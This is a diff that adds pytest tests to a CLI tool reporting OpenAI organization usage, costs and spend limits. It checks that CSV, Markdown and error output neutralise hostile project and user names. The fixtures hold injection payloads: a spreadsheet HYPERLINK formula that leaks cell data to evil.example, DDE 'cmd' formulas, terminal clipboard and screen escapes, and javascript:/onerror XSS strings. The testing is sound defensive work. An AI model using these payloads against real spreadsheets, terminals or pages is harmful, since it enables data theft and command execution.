@@ -552,3 +552,231 @@ def test_a_very_long_project_name_is_shortened_in_the_legend() -> None:
         assert text.startswith("Customer support WWW") and text.endswith("…") and len(text) <= 48
     finally:
         plt.close(fig)
+
+
+# --- Issue 26: odd limits give right figures and valid JSON; odd alert thresholds are refused ----------------------
+
+
+def _with_project_limit(cents: object, status: str = "enforcing") -> Any:
+    def callback(request: httpx.Request) -> httpx.Response:
+        if request.url.path.endswith("/projects/proj_a/spend_limit"):
+            body = {"object": "project.spend_limit", "threshold_amount": cents, "currency": "USD",
+                    "interval": "month", "enforcement": {"status": status}}  # fmt: skip
+            return httpx.Response(200, json=body)
+        return _pinned(request)
+
+    return callback
+
+
+def _strict_json(text: str) -> Any:
+    def refuse(constant: str) -> None:
+        raise ValueError(f"not JSON: {constant}")
+
+    return json.loads(text, parse_constant=refuse)
+
+
+def test_an_enforced_zero_project_limit_is_reached_on_the_first_day_with_spend(
+    capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
+    httpx_mock.add_callback(_with_project_limit(0), is_reusable=True)
+    code, out, err = cli(capsys, "--base-url", BASE, "report", "--since", "7d", "--format", "json")
+    assert code == 0, err
+    (alpha,) = _strict_json(out)["limits"]["projects"]
+    assert alpha["limit"] == 0 and alpha["month_to_date"] == pytest.approx(1910.0)
+    assert alpha["reached_on"] == "2026-11-01" and alpha["used"] is None  # Nov 1 (a Sunday) spent $40
+    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "7d")
+    row = next(line for line in out.splitlines() if line.startswith("│ Alpha") and "$0.00" in line)
+    assert "over $0" in row and "2026-11-01 (reached)" in row and "not this month" not in row
+
+
+def test_an_absurd_limit_is_left_out_and_the_json_stays_valid(
+    capsys: pytest.CaptureFixture[str],
+    httpx_mock: HTTPXMock,
+    monkeypatch: pytest.MonkeyPatch,
+    caplog: pytest.LogCaptureFixture,
+) -> None:
+    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
+    httpx_mock.add_callback(_with_project_limit(10**400), is_reusable=True)
+    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "7d", "--format", "json")
+    assert code == 0
+    report = _strict_json(out)
+    assert report["limits"]["organization"] is None and "could not be read" in " ".join(report["caveats"])
+    assert "threshold_amount must be a whole number of cents from 0 to 100000000000000" in caplog.text
+    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "7d")
+    assert code == 0 and "inf" not in out
+
+
+@pytest.mark.parametrize("threshold", [-5000, "5000", 10**400, 12.5])
+def test_an_alert_threshold_that_is_not_whole_cents_is_refused_in_one_line(
+    threshold: object, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def callback(request: httpx.Request) -> httpx.Response:
+        if request.url.path.endswith("/organization/spend_alerts"):
+            return _listing([{"id": "alert_1", "object": "organization.spend_alert", "threshold_amount": threshold,
+                              "currency": "USD", "interval": "month"}])  # fmt: skip
+        return _pinned(request)
+
+    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-limits")
+    httpx_mock.add_callback(callback, is_reusable=True)
+    code, out, err = cli(capsys, "--base-url", BASE, "limits", "--format", "json")
+    assert (code, out) == (1, "")
+    assert err == ("oai-usage: error: spend alert alert_1: threshold_amount must be a whole number of cents from 0 "
+                   "to 100000000000000\n")  # fmt: skip
+
+
+# --- Issue 26: names that are formulas, carriage returns, terminal escapes or Markdown links ------------------------
+
+TRICKS = {
+    "proj_f": '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "proj_p": "+1+cmd|' /C calc'!A0",
+    "proj_m": "-2+3",
+    "proj_at": "@SUM(A1:A9)",
+    "proj_cr": "Ops\rteam",
+    "proj_esc": "\x1b]52;c;ZXZpbA==\x07\x1b]0;pwned\x07\x1b[2J\u202eevil",
+    "proj_md": "[click](javascript:alert(1)) <img src=x onerror=alert(1)>",
+}
+
+
+def _tricky(request: httpx.Request) -> httpx.Response:
+    path = request.url.path
+    if path.endswith("/organization/projects"):
+        return _listing([{"id": pid, "object": "organization.project", "name": name, "created_at": 1735689600,
+                          "archived_at": None, "status": "active"} for pid, name in TRICKS.items()])  # fmt: skip
+    if path.endswith("/organization/users"):
+        return _listing([{"id": "user_f", "object": "organization.user", "name": TRICKS["proj_f"],
+                          "email": "@evil.example", "role": "owner", "added_at": 1735689600}])  # fmt: skip
+    if path.endswith("/projects/proj_f/api_keys"):
+        return _listing([{"id": "key_f", "object": "organization.project.api_key", "name": TRICKS["proj_m"],
+                          "redacted_value": "sk-...abcd", "created_at": 1735689600, "last_used_at": None,
+                          "owner": {"type": "user", "user": {"id": "user_f", "name": TRICKS["proj_at"],
+                                                             "email": "=1+1@evil.example"}}}])  # fmt: skip
+    if path.endswith("/spend_limit"):
+        return httpx.Response(404, json={"error": {"message": "no limit", "code": "spend_limit_not_set"}})
+    if "/usage/" not in path and not path.endswith("/costs"):
+        return _listing([])
+    params = request.url.params
+    start = int(params["start_time"])
+    end = int(params["end_time"]) if "end_time" in params else start + 86400  # the clock probe sends no end
+    step = 3600 if params.get("bucket_width") == "1h" else 86400
+    buckets, moment = [], start
+    while moment < end:
+        stop = min((moment // step + 1) * step, end)
+        results = []
+        if path.endswith("/costs") and step == 86400:
+            results = [{"object": "organization.costs.result", "amount": {"value": 10.0, "currency": "usd"},
+                        "line_item": "=cmd|'/C calc'!A0" if "line_item" in params.get_list("group_by") else None,
+                        "project_id": pid} for pid in TRICKS]  # fmt: skip
+        buckets.append({"object": "bucket", "start_time": moment, "end_time": stop, "results": results})
+        moment = stop
+    return httpx.Response(200, json={"object": "page", "data": buckets, "has_more": False, "next_page": None})
+
+
+@pytest.fixture
+def tricky(httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch) -> HTTPXMock:
+    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-tricks")
+    httpx_mock.add_callback(_tricky, is_reusable=True)
+    return httpx_mock
+
+
+def _cells(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _formula_like(cell: str) -> bool:
+    return cell.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["projects"],
+        ["users"],
+        ["keys"],
+        ["costs", "--start", "2d", "--group-by", "project_id,line_item", "--names"],
+        ["report", "--since", "2d", "--no-limits"],
+    ],
+    ids=["projects", "users", "keys", "costs --names", "report"],
+)
+def test_no_csv_cell_starts_like_a_formula_and_every_row_parses_back_whole(
+    argv: list[str], capsys: pytest.CaptureFixture[str], tricky: HTTPXMock
+) -> None:
+    code, out, err = cli(capsys, "--base-url", BASE, *argv, "--format", "csv")
+    assert code == 0, err
+    rows = _cells(out)
+    assert len({len(row) for row in rows}) == 1  # no row split by a carriage return
+    assert not [cell for row in rows for cell in row if _formula_like(cell)]
+    assert any(cell.startswith("'=") or cell.startswith("'@") for row in rows for cell in row)
+
+
+def test_csv_raw_keeps_the_names_as_the_server_sent_them(capsys: pytest.CaptureFixture[str], tricky: HTTPXMock) -> None:
+    code, out, _ = cli(capsys, "--base-url", BASE, "projects", "--format", "csv", "--csv-raw")
+    assert code == 0
+    names = {row[0]: row[1] for row in _cells(out)[1:]}
+    assert names == TRICKS
+
+
+def test_the_markdown_report_sends_no_terminal_escape_and_no_live_link(
+    capsys: pytest.CaptureFixture[str], tricky: HTTPXMock
+) -> None:
+    code, out, _ = cli(capsys, "--base-url", BASE, "report", "--since", "2d", "--no-limits", "--format", "markdown")
+    assert code == 0
+    assert not any(char in out for char in "\x1b\x07\r\u202e")
+    assert r"| \\x1b\]52;c;ZXZpbA==\\x07\\x1b\]0;pwned\\x07\\x1b\[2J\\u202eevil |" in out  # renders as \x1b]52;...
+    assert "](javascript:" not in out.replace("\\](javascript:", "") and "<img" not in out.replace("\\<img", "")
+    assert r"| \[click\](javascript:alert(1)) \<img src=x onerror=alert(1)\> |" in out
+
+
+@pytest.mark.parametrize("where", ["message", "type", "code", "param", "x-request-id"])
+def test_an_error_line_shows_escapes_a_server_puts_in_its_error_instead_of_sending_them(
+    where: str, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    trick = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202e\nsecond line"
+    error = {"message": "Invalid project", "type": "invalid_request_error", "code": "bad", "param": "project_ids"}
+    headers: dict[bytes, bytes] = {}
+    if where == "x-request-id":
+        headers[b"x-request-id"] = ("req_" + trick.replace("\n", " ")).encode()  # a header cannot hold a newline
+    else:
+        error[where] = f"{error[where]} {trick}"
+    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-tricks")
+    httpx_mock.add_response(status_code=400, json={"error": error}, headers=headers, is_reusable=True)
+    code, out, err = cli(capsys, "--base-url", BASE, "projects")
+    assert (code, out) == (1, "")
+    assert err.startswith("oai-usage: error: ") and err.count("\n") == 1
+    assert not any(char in err for char in "\x1b\x07\u202e")
+    assert "\\x1b]52;c;ZXZpbA==\\x07" in err
+
+
+# --- Issue 26: a cursor no URL can carry is a typed error, one line ------------------------------------------------
+
+HUGE_CURSOR = "c" * (1 << 20)
+
+
+def _huge_cursors(request: httpx.Request) -> httpx.Response:
+    path = request.url.path
+    if path.endswith("/organization/projects"):
+        return httpx.Response(200, json={"object": "list", "data": PROJECTS[:1], "first_id": "proj_a",
+                                         "last_id": HUGE_CURSOR, "has_more": True})  # fmt: skip
+    if path.endswith("/costs"):
+        start = int(request.url.params["start_time"])
+        return httpx.Response(200, json={"object": "page", "data": [{"object": "bucket", "start_time": start,
+                                         "end_time": start + 86400, "results": []}], "has_more": True,
+                                         "next_page": HUGE_CURSOR})  # fmt: skip
+    return _pinned(request)
+
+
+@pytest.mark.parametrize(
+    ("argv", "field"),
+    [(["projects"], "last_id"), (["keys"], "last_id"), (["costs", "--start", "3d"], "next_page")],
+    ids=["projects", "keys", "costs"],
+)
+def test_a_megabyte_cursor_is_one_line_and_exit_1(
+    argv: list[str], field: str, capsys: pytest.CaptureFixture[str], httpx_mock: HTTPXMock,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:  # fmt: skip
+    monkeypatch.setenv("OPENAI_ADMIN_KEY", "sk-admin-test-cursor")
+    httpx_mock.add_callback(_huge_cursors, is_reusable=True)
+    code, out, err = cli(capsys, "--base-url", BASE, *argv)
+    assert (code, out) == (1, "")
+    assert err.startswith("oai-usage: error: ") and err.count("\n") == 1 and len(err) < 400
+    assert f"gives a {field} cursor of 1048576 characters (at most 4096); it cannot be followed" in err
